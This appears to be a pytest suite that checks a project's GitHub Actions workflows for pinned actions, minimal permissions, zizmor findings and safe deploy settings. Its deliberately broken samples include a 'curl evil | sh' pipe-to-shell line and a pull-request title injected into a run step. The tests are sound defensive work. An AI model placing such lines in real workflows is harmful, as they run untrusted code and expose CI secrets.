"""Every workflow in .github/workflows (not only delivery's) against the rules.

zizmor (offline) and the workflow JSON schema are run for real; the repository's own rules
(mlapp.delivery.workflows) are run on the real files and, to show they can fail, on small
broken workflows.
"""

from __future__ import annotations

import subprocess
import textwrap
import time
from pathlib import Path

import pytest
import yaml
from tests.conftest import BIN, REPO

from mlapp.delivery.workflows import Finding, check_all, pins_from_markdown, uses_pins

WORKFLOWS = REPO / ".github" / "workflows"
VERIFIED_PINS = Path(__file__).with_name("verified_pins.txt")  # pins checked against each action's repo
FILES = sorted(WORKFLOWS.glob("*.y*ml"))


def _commands() -> dict[str, set[str] | None]:
    from mlapp.cli import command_tree

    return command_tree()


def test_there_are_workflows_to_check() -> None:
    names = {p.name for p in FILES}
    assert {"ci.yml", "cd.yml", "promote.yml", "rollback.yml"} <= names


def test_zizmor_offline_reports_nothing() -> None:
    start = time.perf_counter()
    done = subprocess.run(
        [BIN / "zizmor", "--offline", "--no-progress", "--format", "plain", str(REPO / ".github")],
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin"},
    )
    print(f"zizmor: {time.perf_counter() - start:.2f}s for {len(FILES)} workflows")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "No findings to report" in done.stdout


def test_delivery_workflows_are_clean_even_for_pedantic_zizmor() -> None:
    ours = [str(WORKFLOWS / n) for n in ("ci.yml", "cd.yml", "promote.yml", "rollback.yml")]
    done = subprocess.run(
        [
            BIN / "zizmor",
            "--offline",
            "--no-progress",
            "--persona",
            "auditor",
            *ours,
            str(REPO / ".github" / "dependabot.yml"),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_workflow_and_dependabot_schemas() -> None:
    for schema, files in (
        ("vendor.github-workflows", FILES),
        ("vendor.dependabot", [REPO / ".github/dependabot.yml"]),
    ):
        done = subprocess.run(
            [BIN / "check-jsonschema", "--builtin-schema", schema, *map(str, files)],
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_repository_rules_pass_on_every_workflow() -> None:
    start = time.perf_counter()
    findings = check_all(WORKFLOWS, REPO / "Makefile", _commands())
    print(f"workflow rules: {time.perf_counter() - start:.3f}s")
    assert findings == [], "\n".join(map(str, findings))


def test_check_workflows_command(mlapp_in_repo) -> None:
    code, out = mlapp_in_repo("delivery", "check-workflows")
    assert code == 0, out


def test_every_pin_is_a_verified_pin() -> None:
    verified = pins_from_markdown(VERIFIED_PINS.read_text())
    used = uses_pins(WORKFLOWS)
    assert used
    for file, action, sha, tag in used:
        where = f"{file}: {action}@{sha} # {tag}"
        assert verified.get(action) == (sha, tag), f"{where} is not in {VERIFIED_PINS.name}"


def test_dependabot_covers_actions_and_uv_with_a_cooldown() -> None:
    config = yaml.safe_load((REPO / ".github" / "dependabot.yml").read_text())
    updates = {u["package-ecosystem"]: u for u in config["updates"]}
    assert {"github-actions", "uv"} <= set(updates)
    for update in updates.values():
        assert update["cooldown"]["default-days"] >= 7


def test_delivery_order_is_deploy_smoke_then_accept() -> None:
    """The alias moves and a release becomes promotable only after its smoke test."""
    for name, job in (("cd.yml", "staging"), ("promote.yml", "production"), ("rollback.yml", "production")):
        steps = [
            s.get("run", "") for s in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]
        ]
        order = [
            next(i for i, r in enumerate(steps) if f"mlapp delivery {verb} " in r)
            for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke", "accept")
        ]
        assert order == sorted(order), f"{name}: {steps}"
        assert all("--push" in steps[i] for i in (order[0], order[2]))
        assert "--verify-attestation" in steps[order[0]]


def test_image_is_built_once_with_sbom_provenance_and_attestation() -> None:
    cd = yaml.safe_load((WORKFLOWS / "cd.yml").read_text())
    build = cd["jobs"]["build"]["steps"]
    push = next(s for s in build if str(s.get("uses", "")).startswith("docker/build-push-action@"))
    assert push["with"]["push"] is True and push["with"]["sbom"] is True
    assert push["with"]["provenance"] == "mode=max"
    assert not any(k.startswith("cache") for k in push["with"])
    attest = next(s for s in build if str(s.get("uses", "")).startswith("actions/attest@"))
    assert attest["with"]["subject-digest"] == "${{ steps.push.outputs.digest }}"
    # No other workflow builds an image: promotion and rollback reuse digests.
    for path in FILES:
        if path.name != "cd.yml":
            assert "build-push-action" not in path.read_text(), path.name


# --- the rules can fail: one broken workflow per rule ------------------------------------------

CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
GOOD = f"""
name: good
on: [push]
permissions: {{}}
jobs:
  lint:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: {CHECKOUT}
        with:
          persist-credentials: false
      - run: make lint
      - run: uv run --frozen mlapp delivery status --fetch
"""


def _check(tmp_path: Path, text: str, extra: dict[str, str] | None = None) -> list[Finding]:
    folder = tmp_path / "wf"
    folder.mkdir(exist_ok=True)
    (folder / "x.yml").write_text(textwrap.dedent(text))
    for name, body in (extra or {}).items():
        (folder / name).write_text(textwrap.dedent(body))
    return check_all(folder, REPO / "Makefile", _commands())


def test_good_example_passes(tmp_path: Path) -> None:
    assert _check(tmp_path, GOOD) == []


BROKEN = [
    ("unpinned", GOOD.replace(CHECKOUT, "actions/checkout@v7"), "not pinned to a full commit SHA"),
    ("no tag comment", GOOD.replace(" # v7.0.1", ""), "needs its tag as a trailing comment"),
    (
        "write at top",
        GOOD.replace("permissions: {}", "permissions: write-all"),
        "top-level permissions grant",
    ),
    ("no top perms", GOOD.replace("permissions: {}\n", ""), "top-level permissions missing"),
    (
        "expression in run",
        GOOD.replace("make lint", "echo ${{ github.event.pull_request.title }}"),
        "expression inside run",
    ),
    ("chained shell", GOOD.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
    ("unknown target", GOOD.replace("make lint", "make no-such-target"), "not in the Makefile"),
    (
        "unknown command",
        GOOD.replace("mlapp delivery status", "mlapp no-such-command"),
        "is not a subcommand",
    ),
    ("raw shell", GOOD.replace("make lint", "pip install something"), "must call `make <target>`"),
    ("uv without frozen", GOOD.replace("uv run --frozen mlapp", "uv run mlapp"), "needs --frozen"),
    (
        "persisted credentials",
        GOOD.replace("          persist-credentials: false\n", ""),
        "persist-credentials: false",
    ),
    (
        "secret without env",
        GOOD.replace(
            "      - run: make lint",
            "      - run: make lint\n        env:\n          T: ${{ secrets.KUBE_CONFIG }}",
        ),
        "without an environment",
    ),
    ("target trigger", GOOD.replace("on: [push]", "on: [pull_request_target]"), "pull_request_target"),
    ("pr without cancel", GOOD.replace("on: [push]", "on: [pull_request]"), "cancel superseded runs"),
    (
        "id-token",
        GOOD.replace("contents: read", "contents: read\n      id-token: write"),
        "id-token: write without an environment",
    ),
]


@pytest.mark.parametrize(
    ("text", "expected"), [(t, e) for _n, t, e in BROKEN], ids=[n for n, _t, _e in BROKEN]
)
def test_each_rule_catches_its_violation(tmp_path: Path, text: str, expected: str) -> None:
    findings = _check(tmp_path, text)
    assert any(expected in f.message for f in findings), findings


DEPLOY = f"""
name: deploy
on: [workflow_dispatch]
permissions: {{}}
jobs:
  production:
    runs-on: ubuntu-24.04
    environment: production
    concurrency:
      group: deploy-production
      cancel-in-progress: false
    permissions:
      contents: write
    steps:
      - uses: {CHECKOUT}
        with:
          persist-credentials: false
      - uses: astral-sh/setup-uv@20cfd1bf945f4377ade1205e4dbc17946fc9a30d # v10.0.1
        with:
          enable-cache: false
      - run: uv run --frozen mlapp delivery promote --push
        env:
          KUBE_CONFIG: ${{{{ secrets.KUBE_CONFIG }}}}
"""

DEPLOY_BROKEN = [
    (
        "cancels",
        DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"),
        "never cancel each other",
    ),
    (
        "no concurrency",
        DEPLOY.replace(
            "    concurrency:\n      group: deploy-production\n      cancel-in-progress: false\n", ""
        ),
        "deploy job needs `concurrency",
    ),
    (
        "own group",
        DEPLOY.replace("group: deploy-production", "group: promote"),
        "should be 'deploy-production'",
    ),
    ("uv cache", DEPLOY.replace("enable-cache: false", "enable-cache: true"), "needs `enable-cache: false`"),
    (
        "actions cache",
        DEPLOY.replace(
            "      - run: uv run",
            "      - uses: actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n"
            "        with: {path: x, key: y}\n      - run: uv run",
        ),
        "no caches in deploy workflows",
    ),
]


def test_deploy_example_passes(tmp_path: Path) -> None:
    assert _check(tmp_path, DEPLOY) == []


@pytest.mark.parametrize(
    ("text", "expected"), [(t, e) for _n, t, e in DEPLOY_BROKEN], ids=[n for n, _t, _e in DEPLOY_BROKEN]
)
def test_deploy_rules_catch_their_violation(tmp_path: Path, text: str, expected: str) -> None:
    findings = _check(tmp_path, text)
    assert any(expected in f.message for f in findings), findings


def test_same_action_must_have_the_same_pin_everywhere(tmp_path: Path) -> None:
    other = GOOD.replace(
        "3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
        "d23441a48e516b6c34aea4fa41551a30e30af803 # v6.1.0",
    )
    findings = _check(tmp_path, GOOD, {"y.yml": other})
    assert any("actions/checkout pinned to" in f.message for f in findings), findings


def test_run_steps_of_real_workflows_parse_as_commands() -> None:
    """Belt and braces for the rule above: each `mlapp X` in a run: answers --help."""
    seen = set()
    for path in FILES:
        for job in (yaml.safe_load(path.read_text()).get("jobs") or {}).values():
            for step in job.get("steps") or []:
                words = str(step.get("run", "")).split()
                if "mlapp" in words:
                    index = words.index("mlapp") + 1
                    command = words[index]
                    if index + 1 < len(words) and not words[index + 1].startswith("-"):
                        sub = words[index + 1]
                        if _commands().get(command):
                            command = f"{command} {sub}"
                    seen.add(command)
    from click.testing import CliRunner

    from mlapp.cli import cli

    for command in sorted(seen):
        result = CliRunner().invoke(cli, [*command.split(), "--help"])
        assert result.exit_code == 0, f"mlapp {command} --help: {result.output}"


def test_setup_page_documents_every_secret_variable_and_environment() -> None:
    """A maintainer following docs/github-setup.md has set everything the workflows read."""
    import re

    page = (REPO / "docs" / "github-setup.md").read_text()
    names: set[str] = set()
    environments: set[str] = set()
    for path in FILES:
        text = path.read_text()
        names |= set(re.findall(r"\b(?:secrets|vars)\.([A-Za-z_][A-Za-z0-9_]*)", text)) - {"GITHUB_TOKEN"}
        for job in (yaml.safe_load(text).get("jobs") or {}).values():
            env = job.get("environment")
            if env:
                environments.add(env["name"] if isinstance(env, dict) else env)
    assert names and environments
    missing = sorted(n for n in names if f"`{n}`" not in page)
    assert not missing, f"docs/github-setup.md does not explain {missing}"
    missing_envs = sorted(e for e in environments if f"`{e}`" not in page)
    assert not missing_envs, f"docs/github-setup.md does not describe environments {missing_envs}"


def test_image_build_reads_the_context_the_bento_export_writes() -> None:
    """cd.yml builds from the folder `make bento-context` exports, with BentoML's Dockerfile."""
    from mlapp.delivery.workflows import make_targets
    from mlapp.serving.bento import DOCKERFILE

    makefile = (REPO / "Makefile").read_text()
    assert "bento-context" in make_targets(REPO / "Makefile")
    recipe = makefile.split("\nbento-context:", 1)[1].split("\n\n", 1)[0]
    context = recipe.split("--docker-context", 1)[1].split()[0]
    build = yaml.safe_load((WORKFLOWS / "cd.yml").read_text())["jobs"]["build"]["steps"]
    assert any(s.get("run") == "make bento-context" for s in build)
    push = next(s for s in build if str(s.get("uses", "")).startswith("docker/build-push-action@"))
    assert push["with"]["context"] == context
    assert push["with"]["file"] == f"{context}/{DOCKERFILE.as_posix()}"
